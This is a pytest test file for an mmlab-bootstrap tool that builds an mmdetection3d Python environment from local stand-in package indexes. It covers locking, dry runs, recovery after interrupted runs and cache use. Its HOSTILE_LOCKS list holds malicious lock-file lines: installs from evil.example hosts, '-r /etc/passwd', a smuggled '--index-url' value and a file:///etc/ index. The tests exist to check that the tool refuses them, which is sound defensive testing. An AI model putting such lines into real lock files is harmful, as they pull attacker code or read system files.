"""`inv python-env` end to end against stand-in wheels served on 127.0.0.1: a PyPI-shaped
index (mmdet 2.x and 3.x, mmsegmentation, numba with a cp38-only pin, mmcv-full sdists that
fail loudly if built, stand-in build tools), a PyTorch-style index and mmcv's wheel pages;
the workspace is mmdetection3d 1.0.0rc4's shape with a setup.py that imports torch."""

from __future__ import annotations

import json
import os
import shutil
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from mmlab_bootstrap.pythonenv.build import MARKER

from .conftest import Cloned, assert_clean_error, inv
from .lib.fakepython import write
from .lib.httpserve import Served
from .lib.pyenvfixture import (
    OVERRIDE,
    environ,
    held,
    imported,
    loopback_only,
    python_env_until,
    rc4,
    served_indexes,
    stand_in_indexes,
)


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with served_indexes(stand_in_indexes(tmp_path_factory.mktemp("wheels"))) as served:
        yield served


@pytest.fixture(autouse=True)
def no_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
    loopback_only(monkeypatch, uv_offline=True, uv_config=True)


@pytest.fixture
def ws(workspace: Path) -> Path:
    return rc4(workspace)


def test_build_then_nothing_to_do(ws: Path, index: Served) -> None:
    """The numba pin refused early with the override line; with it, the env is built from
    wheels only (no sdist ever fetched), mmdet 2.x although mmdet3d rc4 allows 3.0.0, mmcv-full
    from the pair's page, the checkout editable; a second run changes nothing, asks nothing."""
    env = environ(index)
    first = inv(ws, "python-env", env=env)
    assert_clean_error(first, "numba==0.53.0", "has no wheel for Python")
    assert "numba>=0.57.0  #" in first.err and "python-env.overrides.txt" in first.err
    assert not (ws / ".venvs").exists() and not list(ws.glob("python-env.*.lock.txt"))

    write(ws / "python-env.overrides.txt", OVERRIDE)
    built = inv(ws, "python-env", env=env)
    assert built.code == 0, built.err
    assert "chosen: torch 1.11.0+cu113, mmcv-full 1.6.0" in built.out
    assert "imports torch, mmcv, mmcv.ops, mmdet, mmseg, mmdet3d in the new" in built.out
    assert "doctor:" not in built.out + built.err, built.out + built.err  # its checks pass
    venv = ws / ".venvs" / "mmdetection3d"
    found = imported(venv)
    assert (found["mmcv"], found["mmdet"], found["mmseg"], found["numba"]) == (
        "1.6.0", "2.28.2", "0.30.0", "0.57.0",
    )  # fmt: skip
    assert found["torch"] == "1.11.0+cu113"
    assert found["mmdet3d"] == str(
        ws / "mmlab_extension" / "mmdetection3d" / "mmdet3d" / "__init__.py"
    )
    lock = ws / "python-env.mmdetection3d.cu113.lock.txt"
    assert "--hash=sha256:" in lock.read_text() and "mmcv-full==1.6.0" in lock.read_text()
    assert not [r for r in index.requests if r.path.endswith(".tar.gz")]
    assert json.loads((venv / MARKER).read_text())["made_by"] == "mmlab-bootstrap"
    assert sorted(p.name for p in (ws / ".venvs").iterdir()) == ["mmdetection3d"]

    asked = len(index.requests)
    again = inv(ws, "python-env", env=env)
    assert again.code == 0, again.err
    assert f"up to date: {venv}" in again.out
    assert len(index.requests) == asked  # no request
    dry = inv(ws, "--dry", "python-env", env=env)
    assert dry.code == 0 and "would" not in dry.out and len(index.requests) == asked

    (venv / "bin" / "python").unlink()  # a venv of the tool's, broken: made again from the lock
    again = inv(ws, "python-env", env=env)
    assert again.code == 0, again.err
    assert imported(venv)["mmdet"] == "2.28.2"


def test_dry_shows_the_pairs_and_changes_nothing(ws: Path, index: Served) -> None:
    write(ws / "python-env.overrides.txt", OVERRIDE)
    run = inv(ws, "--dry", "python-env", env=environ(index))
    assert run.code == 0, run.err
    assert "cu113 + torch 1.12: only mmcv-full 1.7.0, outside" in run.out
    assert "cu113 + torch 1.11: chosen: torch 1.11.0+cu113, mmcv-full 1.6.0" in run.out
    assert "mmdet[mim]<3" in run.out and "override numba>=0.57" in run.out
    assert not (ws / ".venvs").exists() and not list(ws.glob("python-env.*.lock.txt"))


def test_locked_needs_a_lock_and_installs_exactly_it(ws: Path, index: Served) -> None:
    write(ws / "python-env.overrides.txt", OVERRIDE)
    env = environ(index)
    assert_clean_error(inv(ws, "python-env", "--locked", env=env), "--locked: no lock")
    assert inv(ws, "python-env", env=env).code == 0
    lock = ws / "python-env.mmdetection3d.cu113.lock.txt"
    # The team's lock holds torch 1.12.1 (say): --locked installs it as it is
    text = lock.read_text()
    venv = ws / ".venvs" / "mmdetection3d"
    write(ws / "python-env.overrides.txt", OVERRIDE + "networkx  # a new line: inputs differ\n")
    run = inv(ws, "python-env", "--locked", env=env)
    assert run.code == 0, run.err
    assert f"up to date: {venv}" in run.out and lock.read_text() == text


def test_a_folder_the_tool_did_not_make_is_never_touched(ws: Path, index: Served) -> None:
    write(ws / "python-env.overrides.txt", OVERRIDE)
    mine = write(ws / ".venvs" / "mmdetection3d" / "notes.txt", "my own env\n")
    run = inv(ws, "python-env", env=environ(index))
    assert_clean_error(run, "was not made by inv python-env")
    assert "--venvs-path" in run.err and mine.read_text() == "my own env\n"


def test_a_linked_venv_is_refused(ws: Path, index: Served, tmp_path: Path) -> None:
    write(ws / "python-env.overrides.txt", OVERRIDE)
    elsewhere = write(tmp_path / "elsewhere" / "keep.txt", "mine\n").parent
    (ws / ".venvs").mkdir()
    (ws / ".venvs" / "mmdetection3d").symlink_to(elsewhere)
    assert_clean_error(inv(ws, "python-env", env=environ(index)), "is a symlink")
    assert sorted(p.name for p in elsewhere.iterdir()) == ["keep.txt"]


def test_a_killed_run_is_finished_by_the_next(ws: Path, index: Served) -> None:
    """What a kill leaves (a half-made `.partial` venv, an `.old` one being replaced, no
    final env) is cleared and the env made; a stranger's folder under those names is not."""
    write(ws / "python-env.overrides.txt", OVERRIDE)
    venvs = ws / ".venvs"
    write(venvs / ".mmdetection3d.partial" / "pyvenv.cfg", "home = /usr/bin\n")
    write(venvs / ".mmdetection3d.old" / "pyvenv.cfg", "home = /usr/bin\n")
    run = inv(ws, "python-env", env=environ(index))
    assert run.code == 0, run.err
    assert "left by an interrupted run" in run.out
    assert sorted(p.name for p in venvs.iterdir()) == ["mmdetection3d"]
    write(venvs / ".mmdetection3d.partial" / "precious.txt", "not a venv\n")
    assert_clean_error(inv(ws, "python-env", "--update", env=environ(index)), "in the way")
    assert (venvs / ".mmdetection3d.partial" / "precious.txt").exists()


def test_doctor_inspects_the_workspace_env_once_there_is_one(ws: Path, index: Served) -> None:
    """Before: the python3 on PATH; after python-env: the workspace's env, whose packages
    the doctor finds within the sources' bounds."""
    write(ws / "python-env.overrides.txt", OVERRIDE)
    env = environ(index)
    before = json.loads(inv(ws, "doctor", "--json", env=env).out)
    assert ".venvs" not in before["python"]["interpreter"]
    assert inv(ws, "python-env", env=env).code == 0
    after = json.loads(inv(ws, "doctor", "--json", env=env).out)
    venv_python = ws / ".venvs" / "mmdetection3d" / "bin" / "python"
    assert after["python"]["interpreter"] == str(venv_python)
    packages = after["python"]["packages"]
    assert packages["mmcv"]["version"] == "1.6.0" and packages["mmcv"]["accepted"] is True
    assert packages["mmdet3d"]["editable"] is True
    assert not [p for p in after["problems"] if p.startswith(("mmcv", "mmdet", "torch"))]


def test_a_kill_mid_build_is_finished_by_the_next_run(
    ws: Path, index: Served, tmp_path: Path
) -> None:
    """A real `inv python-env` killed (with uv and the build backend) while the checkout is
    being installed into the half-made env; the next run removes it and finishes."""
    write(ws / "python-env.overrides.txt", OVERRIDE)
    gate = tmp_path / "gate"
    env = {**os.environ, **environ(index), "STANDIN_BUILD_WAIT": str(gate)}
    with python_env_until(ws, env, Path(f"{gate}.started")):
        pass  # killed there
    venvs = ws / ".venvs"
    assert (venvs / ".mmdetection3d.partial" / "pyvenv.cfg").is_file()
    assert not (venvs / "mmdetection3d").exists()
    run = inv(ws, "python-env", env=environ(index))
    assert run.code == 0, run.err
    assert "left by an interrupted run" in run.out
    assert sorted(p.name for p in venvs.iterdir()) == ["mmdetection3d"]
    assert imported(venvs / "mmdetection3d")["mmcv"] == "1.6.0"


def test_update_resolves_again_and_keeps_an_equal_env(ws: Path, index: Served) -> None:
    write(ws / "python-env.overrides.txt", OVERRIDE)
    env = environ(index)
    assert inv(ws, "python-env", env=env).code == 0
    asked = len(index.requests)
    run = inv(ws, "python-env", "--update", env=env)
    assert run.code == 0, run.err
    assert len(index.requests) > asked  # the pages were read again
    assert f"up to date: {ws / '.venvs' / 'mmdetection3d'}" in run.out  # same pins: same env
    assert_clean_error(inv(ws, "python-env", "--update", "--locked", env=env), "contradict")


def closed_port() -> str:
    with socket.socket() as holder:
        holder.bind(("127.0.0.1", 0))
        return f"http://127.0.0.1:{holder.getsockname()[1]}/"


@pytest.mark.parametrize("variable", ["MMLAB_TORCH_INDEX", "MMLAB_MMCV_INDEX", "MMLAB_PYPI_INDEX"])
def test_an_unreachable_index_names_its_variable(
    ws: Path, index: Served, variable: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MMLAB_HTTP_WAIT_MAX", "0.01")  # (six tries: their waits kept short)
    env = {**environ(index), variable: closed_port()}
    if variable != "MMLAB_PYPI_INDEX":
        write(ws / "python-env.overrides.txt", OVERRIDE)  # (else the pin check asks PyPI first)
    run = inv(ws, "python-env", env=env)
    assert_clean_error(run)
    assert variable in run.err.splitlines()[1]
    assert "refused the connection; 6 tries in a row failed" in run.err
    assert "(failed try 5 of 6)" in run.out  # each wait said
    assert not (ws / ".venvs").exists() and not list(ws.glob("python-env.*.lock.txt"))


def test_what_uv_cannot_resolve_is_one_error(ws: Path, index: Served) -> None:
    """mmdet3d asks mmdet>=2.24,<3; the override forces mmdet>=3.1, which the index lacks."""
    write(ws / "python-env.overrides.txt", OVERRIDE + "mmdet>=3.1  # try the newest\n")
    run = inv(ws, "python-env", env=environ(index))
    assert_clean_error(run, "resolving mmdetection3d's environment", "mmdet")
    assert "python-env.overrides.txt" in run.err.splitlines()[1]
    assert not (ws / ".venvs").exists()


def lock_with(
    body: str, *, pypi: str = "http://127.0.0.1:9/simple/", inputs: str = "0" * 32
) -> str:
    return (
        f"# mmlab-bootstrap python-env lock\n# inputs: {inputs}\n# pypi-index: {pypi}\n"
        f"# torch-index: \n# mmcv-page: \n{body}"
    )


HASH = "    --hash=sha256:" + "ab" * 32
HOSTILE_LOCKS = [
    ("numpy==1.0\n", "is not a lock this tool wrote"),
    ("# mmlab-bootstrap python-env lock\nnumpy==1.0\n", "is not a lock this tool wrote"),
    (lock_with("--extra-index-url http://evil.example/\n"), ":6 is not a pinned requirement"),
    (lock_with("-r /etc/passwd\n"), ":6 is not a pinned requirement"),
    (lock_with("-e /tmp/evil\n"), ":6 is not a pinned requirement"),
    (lock_with("numpy @ https://evil.example/numpy.whl \\\n" + HASH + "\n"), ":6 is not"),
    (lock_with("numpy>=1.0 \\\n" + HASH + "\n"), ":6 is not a pinned requirement"),
    (lock_with("numpy==1.0 \\\n    --hash=md5:00\n"), ":7 is not a pinned requirement"),
    (lock_with("", pypi="--index-url=http://evil/"), "pypi-index is not a URL"),
    (lock_with("", pypi="file:///etc/"), "pypi-index is not a URL"),
    (lock_with("", inputs="x"), "inputs line is damaged"),
]


@pytest.mark.parametrize(("text", "said"), HOSTILE_LOCKS)
def test_hostile_locks(ws: Path, index: Served, text: str, said: str) -> None:
    write(ws / "python-env.overrides.txt", OVERRIDE)
    write(ws / "python-env.mmdetection3d.cu113.lock.txt", text)
    assert_clean_error(inv(ws, "python-env", env=environ(index)), said)


def test_a_lock_that_is_a_fifo_is_refused(ws: Path, index: Served) -> None:
    write(ws / "python-env.overrides.txt", OVERRIDE)
    os.mkfifo(ws / "python-env.mmdetection3d.cu113.lock.txt")
    assert_clean_error(inv(ws, "python-env", env=environ(index)), "not a regular file")


def test_a_project_without_checkout_is_passed_over(ws: Path, index: Served) -> None:
    write(ws / "python-env.overrides.txt", OVERRIDE)
    env = {**environ(index), "MMLAB_PROJECTS": "mmdetection mmdetection3d"}
    run = inv(ws, "--dry", "python-env", env=env)
    assert run.code == 0, run.err
    assert "mmdetection: no checkout" in run.err
    env["MMLAB_PROJECTS"] = "mmdetection"
    assert_clean_error(inv(ws, "python-env", env=env), "no checkout of mmdetection")


def test_bootstrap_builds_the_env_when_asked(cloned: Cloned, index: Served) -> None:
    """MMLAB_PYTHON_ENV=1: bootstrap's python-env step builds it; off by default."""
    write(cloned.root / "python-env.overrides.txt", OVERRIDE)
    rc4(cloned.root)
    env = environ(index)
    off = inv(cloned.root, "--dry", "bootstrap", env=env)
    assert off.code == 0, off.err
    assert "python-env" not in off.out and not (cloned.root / ".venvs").exists()
    env["MMLAB_PYTHON_ENV"] = "1"
    run = inv(cloned.root, "bootstrap", env=env)
    assert run.code == 0, run.out + run.err
    assert imported(cloned.root / ".venvs" / "mmdetection3d")["mmdet"] == "2.28.2"


def test_a_lock_write_cut_short_leaves_nothing_behind(ws: Path, index: Served) -> None:
    """The temporary file of a lock write killed mid-way is removed by the next run."""
    write(ws / "python-env.overrides.txt", OVERRIDE)
    env = environ(index)
    assert inv(ws, "python-env", env=env).code == 0
    stale = write(ws / ".python-env.mmdetection3d.cu113.lock.txt.tmp-0123abcd", "half a lock")
    run = inv(ws, "python-env", env=env)
    assert run.code == 0, run.err
    assert not stale.exists() and "left by an interrupted run" in run.out


def test_mmcv_is_never_built_when_its_wheel_is_gone(ws: Path, index: Served) -> None:
    """The mmcv page lost the locked wheel (a mirror half-synced): installing the lock fails
    with one error instead of building the sdist PyPI has (for hours, in real life)."""
    write(ws / "python-env.overrides.txt", OVERRIDE)
    env = environ(index)
    assert inv(ws, "python-env", env=env).code == 0
    shutil.rmtree(ws / ".venvs")
    page = "mmcv/dist/cu113/torch1.11.0/index.html"
    kept = index.files[page]
    index.files[page] = b"<html><body>nothing here</body></html>\n"
    try:
        # (uv's cache holds the wheel, hash and all, and a lock is installed from it alone:
        # the mirror's loss is met when the cache is gone too)
        shutil.rmtree(Path(os.environ["HOME"]) / ".cache" / "uv")
        run = inv(ws, "python-env", "--locked", env=env)
    finally:
        index.files[page] = kept
    assert_clean_error(run, "mmcv-full")
    assert "mmcv-full==1.6.0 has no usable wheels" in run.err  # (--only-binary)
    assert "MMLAB_MMCV_INDEX" in run.err.splitlines()[1]
    assert "WAS BUILT" not in run.err and "download and build" not in run.err
    assert not (ws / ".venvs" / "mmdetection3d").exists()


def test_a_rebuild_from_the_lock_asks_nothing_when_uv_has_every_file(
    ws: Path, index: Served
) -> None:
    """The lock's files, hashes and all, in uv's cache: the venv is made from it without a
    request (a bare `uv pip sync` asks the index for every project's page again); what the
    cache lacks is downloaded (the online sync after the offline one)."""
    write(ws / "python-env.overrides.txt", OVERRIDE)
    env = environ(index)
    assert inv(ws, "python-env", env=env).code == 0
    shutil.rmtree(ws / ".venvs")
    asked = len(index.requests)
    run = inv(ws, "python-env", env=env)
    assert run.code == 0, run.err
    assert len(index.requests) == asked, [r.path for r in index.requests[asked:]]
    assert imported(ws / ".venvs" / "mmdetection3d")["mmdet"] == "2.28.2"

    shutil.rmtree(ws / ".venvs")
    shutil.rmtree(Path(os.environ["HOME"]) / ".cache" / "uv")  # a cold cache: downloaded
    run = inv(ws, "python-env", "--locked", env=env)
    assert run.code == 0, run.err
    assert len(index.requests) > asked
    assert imported(ws / ".venvs" / "mmdetection3d")["mmdet"] == "2.28.2"


def _tree(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*")) if folder.exists() else []


def test_dry_writes_nothing_outside_not_even_uv_s_cache(
    ws: Path, index: Served, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`--dry` on a fresh workspace resolves with uv (its own dry run) against a cache of its
    own, removed afterwards: the user's uv cache (HOME's, XDG_CACHE_HOME's; UV_CACHE_DIR is
    ignored as every UV_ variable) and the workspace are as they were."""
    write(ws / "python-env.overrides.txt", OVERRIDE)
    home, xdg, uv_dir = tmp_path / "home", tmp_path / "xdg-cache", tmp_path / "uv-cache"
    monkeypatch.setenv("XDG_CACHE_HOME", str(xdg))
    monkeypatch.setenv("UV_CACHE_DIR", str(uv_dir))
    before = {place: _tree(place) for place in (home, xdg, uv_dir, ws)}
    run = inv(ws, "--dry", "python-env", env=environ(index))
    assert run.code == 0, run.err
    assert "cu113 + torch 1.11: chosen" in run.out
    assert {place: _tree(place) for place in before} == before
    # (a real run fills the user's cache: where the check above looks is where uv writes)
    assert inv(ws, "python-env", env=environ(index)).code == 0
    assert (xdg / "uv").is_dir()


def test_the_doctor_s_findings_name_the_venv_in_place(
    ws: Path, index: Served, tmp_path: Path
) -> None:
    """The doctor's checks run beside the import check, before the rename: what they find
    names the venv where it ends up, never its temporary name."""
    write(ws / "python-env.overrides.txt", OVERRIDE)
    other = write(tmp_path / "other" / "mmdet3d" / "__init__.py", "")  # first on PYTHONPATH
    run = inv(ws, "python-env", env={**environ(index), "PYTHONPATH": str(other.parent.parent)})
    assert run.code == 0, run.err
    venv = ws / ".venvs" / "mmdetection3d"
    shadowing = other.parent.parent
    assert f"warning: doctor: mmdet3d: `import mmdet3d` loads it from {shadowing}" in run.err
    assert f"{venv}/bin/python -m pip install" in run.err and ".partial" not in run.err


def test_scratch_folders_of_a_killed_run_are_removed_by_the_next(ws: Path, index: Served) -> None:
    """A run killed while uv resolved or synced leaves its scratch folder in the workspace
    root (`.mmlab-python-env-` and 8 of tempfile's letters, as older versions named it): the
    next run removes it; one a live run holds (a --dry run, which takes no workspace lock) and
    anything else of that prefix are left alone."""
    write(ws / "python-env.overrides.txt", OVERRIDE)
    left = write(ws / ".mmlab-python-env-k3_x9zqa" / "requirements.in", "torch\n").parent
    write(left / "lock.txt", "half a lock\n")
    busy = write(ws / ".mmlab-python-env-0123abcd" / "overrides.txt", "").parent
    kept = [write(ws / ".mmlab-python-env-abcdefgh", "a file"), ws / ".mmlab-python-env-mine"]
    kept[1].mkdir()
    with held(busy):
        run = inv(ws, "python-env", env=environ(index))
        assert run.code == 0, run.err
        assert f"removed {left} (left by an interrupted run)" in run.out
        assert not left.exists() and busy.is_dir() and all(p.exists() for p in kept)
    scratch = sorted(p.name for p in ws.iterdir() if p.name.startswith(".mmlab-python-env-"))
    assert scratch == sorted([busy.name, *(p.name for p in kept)])
